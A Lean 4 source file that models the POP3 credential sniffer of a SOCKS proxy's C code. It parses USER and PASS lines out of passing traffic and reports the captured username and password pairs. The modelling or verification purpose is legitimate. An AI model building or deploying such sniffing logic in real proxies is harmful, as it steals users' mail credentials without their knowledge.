import SocksProxy.CString

/-! The POP3 credential sniffer of `pop3.c`. -/

namespace SocksProxy

def pop3Port : Nat := 110

/-- `struct pop3_sniffer`; `line` is the array of 512 octets. -/
structure Pop3Sniffer where
  line : List UInt8
  len : Nat
  overflow : Bool
  user : CString
  haveUser : Bool
  deriving DecidableEq

def pop3SnifferInit (p : Pop3Sniffer) : Pop3Sniffer :=
  { p with len := 0, overflow := false, haveUser := false, user := .empty }

private def toLower (octet : UInt8) : UInt8 :=
  if 65 ≤ octet ∧ octet ≤ 90 then octet + 32 else octet

/-- `strncasecmp(line, keyword, 5) == 0` for a keyword of five octets. -/
def startsWith (line : CString) (keyword : String) : Bool :=
  (line.octets.take 5).map toLower ==
    (CString.ofString keyword).octets.map toLower

def afterKeyword (line : CString) : CString where
  octets := line.octets.drop 5
  noNul := fun member => line.noNul (List.mem_of_mem_drop member)

/-- One complete line; the result carries the credentials reported. -/
def processLine (p : Pop3Sniffer) : Pop3Sniffer × List (CString × CString) :=
  let line := CString.ofArray p.line
  if startsWith line "USER " then
    ({ p with user := (afterKeyword line).truncate 255, haveUser := true }, [])
  else if startsWith line "PASS " ∧ p.haveUser then
    ({ p with haveUser := false }, [(p.user, afterKeyword line)])
  else (p, [])

/-- One round of the loop of `pop3_sniffer_feed`. -/
def pop3SnifferFeedOctet (p : Pop3Sniffer) (c : UInt8) :
    Pop3Sniffer × List (CString × CString) :=
  if c = 10 then
    let terminator :=
      if p.len > 0 ∧ p.line[p.len - 1]? = some 13 then p.len - 1 else p.len
    let p := { p with line := p.line.set terminator 0 }
    let (p, reported) := if p.overflow then (p, []) else processLine p
    ({ p with len := 0, overflow := false }, reported)
  else if p.overflow then (p, [])
  else if p.len < 511 then
    ({ p with line := p.line.set p.len c, len := p.len + 1 }, [])
  else ({ p with overflow := true }, [])

def pop3SnifferFeed (p : Pop3Sniffer) :
    List UInt8 → Pop3Sniffer × List (CString × CString)
  | [] => (p, [])
  | c :: data =>
      let (p, first) := pop3SnifferFeedOctet p c
      let (p, others) := pop3SnifferFeed p data
      (p, first ++ others)

end SocksProxy
